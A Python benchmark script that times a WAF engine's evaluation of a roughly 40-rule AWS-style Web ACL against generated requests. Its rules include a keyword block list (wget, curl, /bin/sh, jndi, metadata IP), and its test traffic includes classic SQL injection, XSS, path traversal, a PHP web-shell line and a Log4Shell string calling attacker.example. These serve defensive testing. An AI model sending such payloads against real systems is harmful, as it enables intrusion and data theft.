"""WAF engine benchmark: per-request latency of a Web ACL of a few dozen rules, in-process.

The Web ACL (built here, about 40 rules) has what a real one has: SQLi and XSS statements on the
query, body, cookies and JSON body; string and regex matches on paths, headers and arguments
(many sharing components and transformations, so grouped into RE2 sets); a regex pattern set;
an IP set of 2,000 CIDR blocks behind X-Forwarded-For; size constraints; label-driven rules;
a rate-based rule; and a rule group reference. The requests are generated from a fixed seed:
mostly benign (browsing, JSON APIs, form posts, prose with SQL words) with 20% attacks.

With `--acl managed` the Web ACL is instead every managed rule group (1,925 WCU).

Prints compile time, then p50/p90/p99/max per-request latency (the thread's CPU time, so that
other work on the machine does not count) and requests per second for the whole set, for benign
and for attack requests.

    .venv/bin/python bench/waf_engine.py [--requests 20000] [--acl bench|managed]
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import random
import statistics
import sys
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))

from _report import cpu_model, table

from mamori.perimeter.waf import (
    Request,
    build_web_acl,
    collect_resources,
    parse_document,
)

ACCOUNT = "111122223333"
VIS = {"SampledRequestsEnabled": False, "CloudWatchMetricsEnabled": False, "MetricName": "b"}


def _arn(kind: str, name: str, n: int) -> str:
    return (
        f"arn:aws:wafv2:us-east-1:{ACCOUNT}:regional/{kind}/{name}/a1b2c3d4-5678-90ab-cdef-{n:012d}"
    )


def _id(n: int) -> str:
    return f"a1b2c3d4-5678-90ab-cdef-{n:012d}"


def _tt(*types: str) -> list[dict[str, Any]]:
    return [{"Priority": i, "Type": t} for i, t in enumerate(types or ("NONE",))]


def _bm(text: str, where: dict[str, Any], how: str, *tts: str) -> dict[str, Any]:
    return {
        "ByteMatchStatement": {
            "SearchString": base64.b64encode(text.encode()).decode(),
            "FieldToMatch": where,
            "TextTransformations": _tt(*tts),
            "PositionalConstraint": how,
        }
    }


def _rx(pattern: str, where: dict[str, Any], *tts: str) -> dict[str, Any]:
    return {
        "RegexMatchStatement": {
            "RegexString": pattern,
            "FieldToMatch": where,
            "TextTransformations": _tt(*tts),
        }
    }


def _rule(name: str, prio: int, stmt: dict[str, Any], action: str = "Block", **kw: Any) -> dict:
    return {
        "Name": name,
        "Priority": prio,
        "Statement": stmt,
        "Action": {action: {}},
        "VisibilityConfig": VIS,
        **kw,
    }


QS: dict[str, Any] = {"QueryString": {}}
BODY: dict[str, Any] = {"Body": {"OversizeHandling": "CONTINUE"}}
PATH: dict[str, Any] = {"UriPath": {}}
UA = {"SingleHeader": {"Name": "user-agent"}}
COOKIES = {
    "Cookies": {"MatchPattern": {"All": {}}, "MatchScope": "VALUE", "OversizeHandling": "CONTINUE"}
}
JSON_BODY = {
    "JsonBody": {
        "MatchPattern": {"All": {}},
        "MatchScope": "VALUE",
        "InvalidFallbackBehavior": "EVALUATE_AS_STRING",
    }
}
HEADERS = {
    "Headers": {"MatchPattern": {"All": {}}, "MatchScope": "VALUE", "OversizeHandling": "CONTINUE"}
}


def build(rng: random.Random) -> tuple[Any, float]:
    ipset = {
        "IPSet": {
            "Name": "bad",
            "Id": _id(1),
            "ARN": _arn("ipset", "bad", 1),
            "IPAddressVersion": "IPV4",
            "Addresses": [
                f"{rng.randrange(1, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.0/24"
                for _ in range(2000)
            ],
        }
    }
    regexset = {
        "RegexPatternSet": {
            "Name": "scanners",
            "Id": _id(2),
            "ARN": _arn("regexpatternset", "scanners", 2),
            "RegularExpressionList": [
                {"RegexString": p}
                for p in (
                    "(?i)nikto",
                    "(?i)sqlmap",
                    "(?i)nmap",
                    "(?i)masscan",
                    "(?i)zgrab",
                    "(?i)nuclei",
                    "(?i)dirbuster",
                )
            ],
        }
    }
    group = {
        "RuleGroup": {
            "Name": "app",
            "Id": _id(3),
            "ARN": _arn("rulegroup", "app", 3),
            "Capacity": 200,
            "VisibilityConfig": VIS,
            "Rules": [
                _rule(
                    "no-dotfiles", 0, _rx(r"/\.(?:git|env|svn|htaccess|aws)", PATH, "URL_DECODE")
                ),
                _rule("no-backup", 1, _rx(r"\.(?:bak|old|swp|sql|tar\.gz)$", PATH, "LOWERCASE")),
                _rule("php-info", 2, _bm("phpinfo", QS, "CONTAINS", "URL_DECODE", "LOWERCASE")),
            ],
        }
    }
    rules: list[dict[str, Any]] = [
        _rule("allow-health", 0, _bm("/healthz", PATH, "EXACTLY"), "Allow"),
        _rule(
            "bad-ips",
            1,
            {
                "IPSetReferenceStatement": {
                    "ARN": _arn("ipset", "bad", 1),
                    "IPSetForwardedIPConfig": {
                        "HeaderName": "X-Forwarded-For",
                        "FallbackBehavior": "NO_MATCH",
                        "Position": "FIRST",
                    },
                }
            },
        ),
        _rule(
            "scanners",
            2,
            {
                "RegexPatternSetReferenceStatement": {
                    "ARN": _arn("regexpatternset", "scanners", 2),
                    "FieldToMatch": UA,
                    "TextTransformations": _tt("NONE"),
                }
            },
        ),
        _rule(
            "body-size",
            3,
            {
                "SizeConstraintStatement": {
                    "FieldToMatch": BODY,
                    "ComparisonOperator": "GT",
                    "Size": 64 * 1024,
                    "TextTransformations": _tt(),
                }
            },
        ),
        _rule(
            "sqli-qs",
            4,
            {
                "SqliMatchStatement": {
                    "FieldToMatch": QS,
                    "SensitivityLevel": "HIGH",
                    "TextTransformations": _tt("URL_DECODE", "HTML_ENTITY_DECODE"),
                }
            },
        ),
        _rule(
            "sqli-body",
            5,
            {
                "SqliMatchStatement": {
                    "FieldToMatch": BODY,
                    "TextTransformations": _tt("URL_DECODE", "HTML_ENTITY_DECODE"),
                }
            },
        ),
        _rule(
            "sqli-cookie",
            6,
            {
                "SqliMatchStatement": {
                    "FieldToMatch": COOKIES,
                    "TextTransformations": _tt("URL_DECODE"),
                }
            },
        ),
        _rule(
            "sqli-json",
            7,
            {"SqliMatchStatement": {"FieldToMatch": JSON_BODY, "TextTransformations": _tt("NONE")}},
        ),
        _rule(
            "xss-qs",
            8,
            {
                "XssMatchStatement": {
                    "FieldToMatch": QS,
                    "TextTransformations": _tt("URL_DECODE", "HTML_ENTITY_DECODE"),
                }
            },
        ),
        _rule(
            "xss-body",
            9,
            {
                "XssMatchStatement": {
                    "FieldToMatch": BODY,
                    "TextTransformations": _tt("URL_DECODE", "HTML_ENTITY_DECODE"),
                }
            },
        ),
        _rule(
            "xss-json",
            10,
            {"XssMatchStatement": {"FieldToMatch": JSON_BODY, "TextTransformations": _tt("NONE")}},
        ),
        _rule(
            "app-group",
            11,
            {"RuleGroupReferenceStatement": {"ARN": _arn("rulegroup", "app", 3)}},
            Action=None,
            OverrideAction={"None": {}},
        ),
        _rule(
            "login-rate",
            12,
            {
                "RateBasedStatement": {
                    "Limit": 1000,
                    "AggregateKeyType": "IP",
                    "EvaluationWindowSec": 60,
                    "ScopeDownStatement": _bm("/login", PATH, "STARTS_WITH"),
                }
            },
        ),
        _rule(
            "admin-tag",
            13,
            _bm("/admin", PATH, "STARTS_WITH", "LOWERCASE"),
            "Count",
            RuleLabels=[{"Name": "zone:admin"}],
        ),
        _rule(
            "admin-outside",
            14,
            {
                "AndStatement": {
                    "Statements": [
                        {"LabelMatchStatement": {"Scope": "LABEL", "Key": "zone:admin"}},
                        {
                            "NotStatement": {
                                "Statement": _bm(
                                    "10.", {"SingleHeader": {"Name": "x-real-ip"}}, "STARTS_WITH"
                                )
                            }
                        },
                    ]
                }
            },
        ),
    ]
    del rules[11]["Action"]
    words = [
        "etc/passwd",
        "win.ini",
        "boot.ini",
        "cmd.exe",
        "/bin/sh",
        "wget ",
        "curl ",
        "${jndi:",
        "<?php",
        "base64_decode",
        "eval(",
        "system(",
        "passthru",
        "../..",
        "%00",
        "file://",
        "gopher://",
        "169.254.169.254",
        "/proc/self",
        "xp_cmdshell",
    ]
    for i, word in enumerate(words):
        rules.append(
            _rule(
                f"kbi-{i}",
                20 + i,
                {
                    "OrStatement": {
                        "Statements": [
                            _bm(word, QS, "CONTAINS", "URL_DECODE", "LOWERCASE"),
                            _bm(word, BODY, "CONTAINS", "URL_DECODE", "LOWERCASE"),
                            _bm(word, HEADERS, "CONTAINS", "LOWERCASE"),
                        ]
                    }
                },
            )
        )
    acl_doc = {
        "WebACL": {
            "Name": "bench",
            "Id": _id(9),
            "ARN": _arn("webacl", "bench", 9),
            "DefaultAction": {"Allow": {}},
            "Rules": rules,
            "VisibilityConfig": VIS,
        }
    }
    start = time.perf_counter()
    resources = collect_resources(
        [
            parse_document(d, name)
            for d, name in ((ipset, "ipset"), (regexset, "regexset"), (group, "group"))
        ]
    )
    acl = build_web_acl(parse_document(acl_doc, "bench-acl"), resources)
    return acl, time.perf_counter() - start


def build_managed() -> tuple[Any, float]:
    """Every managed rule group in one Web ACL (as docs/waf.md's speed figures use), with one
    documentation /24 in each IP list so that the reputation rules run their lookups."""
    from mamori.perimeter.waf.rulesets import CATALOGUE, web_acl_document
    from mamori.perimeter.waf.rulesets.reputation import ip_list_document

    start = time.perf_counter()
    lists = [
        parse_document(ip_list_document(rule.name, ["203.0.113.0/24"]), rule.name)
        for group in ("AWSManagedRulesAmazonIpReputationList", "AWSManagedRulesAnonymousIpList")
        for rule in CATALOGUE[group].rules
    ]
    doc = parse_document(web_acl_document(), "managed-acl")
    acl = build_web_acl(doc, collect_resources(lists))
    return acl, time.perf_counter() - start


ACLS = {"bench": build, "managed": lambda rng: build_managed()}


BENIGN_TEXT = [
    "Please select the best option from the menu and update your profile",
    "I'd like to drop by on Tuesday; union members are welcome",
    "Order #1234: 2 x widgets, 1 x gadget",
    "The quick brown fox jumps over the lazy dog",
    "SELECT a plan that fits: basic, pro or enterprise",
]
ATTACKS = [
    "1' OR '1'='1",
    "1 UNION SELECT username,password FROM users--",
    "1;DROP TABLE users",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "${jndi:ldap://attacker.example/a}",
    "<?php system($_GET[c]); ?>",
    "1 AND SLEEP(5)",
    "admin'--",
    "javascript:alert(1)",
]
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
    "Mozilla/5.0 (Macintosh) Safari/17",
    "okhttp/4.12",
    "python-requests/2.32",
]


def requests(rng: random.Random, n: int) -> list[tuple[bool, Request]]:
    from urllib.parse import quote

    out = []
    for i in range(n):
        attack = rng.random() < 0.2
        payload = rng.choice(ATTACKS) if attack else rng.choice(BENIGN_TEXT)
        headers = [
            ("Host", "shop.example.com"),
            ("User-Agent", rng.choice(AGENTS)),
            ("Accept", "text/html,application/json"),
            ("Accept-Language", "en-GB"),
            ("Cookie", f"session={rng.getrandbits(64):x}; theme=dark"),
            ("X-Forwarded-For", f"198.51.{rng.randrange(256)}.{rng.randrange(256)}"),
        ]
        kind = i % 4
        if kind == 0:
            req = Request("GET", f"/search?q={quote(payload)}&page={i % 7}", tuple(headers))
        elif kind == 1:
            body = json.dumps({"comment": payload, "rating": i % 5, "tags": ["a", "b"]})
            req = Request(
                "POST",
                "/api/reviews",
                (*headers, ("Content-Type", "application/json")),
                body.encode(),
            )
        elif kind == 2:
            body = f"name=alice&message={quote(payload)}"
            req = Request("POST", "/contact", tuple(headers), body.encode())
        else:
            req = Request("GET", f"/products/{i % 500}/reviews?sort=new", tuple(headers))
            attack = False
        out.append((attack, req))
    return out


def percentiles(samples: list[int]) -> list[str]:
    ordered = sorted(samples)

    def at(q: float) -> str:
        return f"{ordered[min(len(ordered) - 1, int(q * len(ordered)))] / 1000:.1f}"

    mean = statistics.fmean(ordered)
    return [
        str(len(ordered)),
        at(0.5),
        at(0.9),
        at(0.99),
        f"{ordered[-1] / 1000:.1f}",
        f"{1e9 / mean:,.0f}",
    ]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--requests", type=int, default=20_000)
    parser.add_argument(
        "--acl",
        choices=sorted(ACLS),
        default="bench",
        help="bench: the ~40-rule Web ACL built here; managed: all eleven managed rule groups",
    )
    args = parser.parse_args()
    rng = random.Random(7)
    acl, compile_s = ACLS[args.acl](rng)
    reqs = requests(rng, args.requests)
    load = os.getloadavg()[0]
    for _, r in reqs[:500]:  # warm caches and the allocator
        acl.evaluate(r)
    # "allowed": requests no rule ended early, so every rule ran (the slowest kind)
    timings: dict[str, list[int]] = {"all": [], "benign": [], "attack": [], "allowed": []}
    blocked = {"benign": 0, "attack": 0}
    for attack, r in reqs:
        # CPU time of this thread: on a machine shared with other work, wall time also
        # counts the time other processes had the core.
        start = time.thread_time_ns()
        verdict = acl.evaluate(r)
        elapsed = time.thread_time_ns() - start
        kind = "attack" if attack else "benign"
        timings["all"].append(elapsed)
        timings[kind].append(elapsed)
        blocked[kind] += verdict.action == "BLOCK"
        if verdict.action == "ALLOW":
            timings["allowed"].append(elapsed)
    print(f"WAF engine, {cpu_model()}, one process, one thread, CPU time per request")
    print(f"load average before the run: {load:.2f}, after: {os.getloadavg()[0]:.2f}")
    print(
        f"Web ACL: {len(acl.rules)} top-level rules, {acl.capacity} WCU, "
        f"compiled in {compile_s * 1000:.0f} ms"
    )
    rows = [["requests", "n", "p50 us", "p90 us", "p99 us", "max us", "req/s"]]
    rows += [[k, *percentiles(v)] for k, v in timings.items()]
    table(rows, left_first=True)
    print(
        f"blocked: {blocked['attack']}/{len(timings['attack'])} attack requests, "
        f"{blocked['benign']}/{len(timings['benign'])} benign requests"
    )


if __name__ == "__main__":
    main()
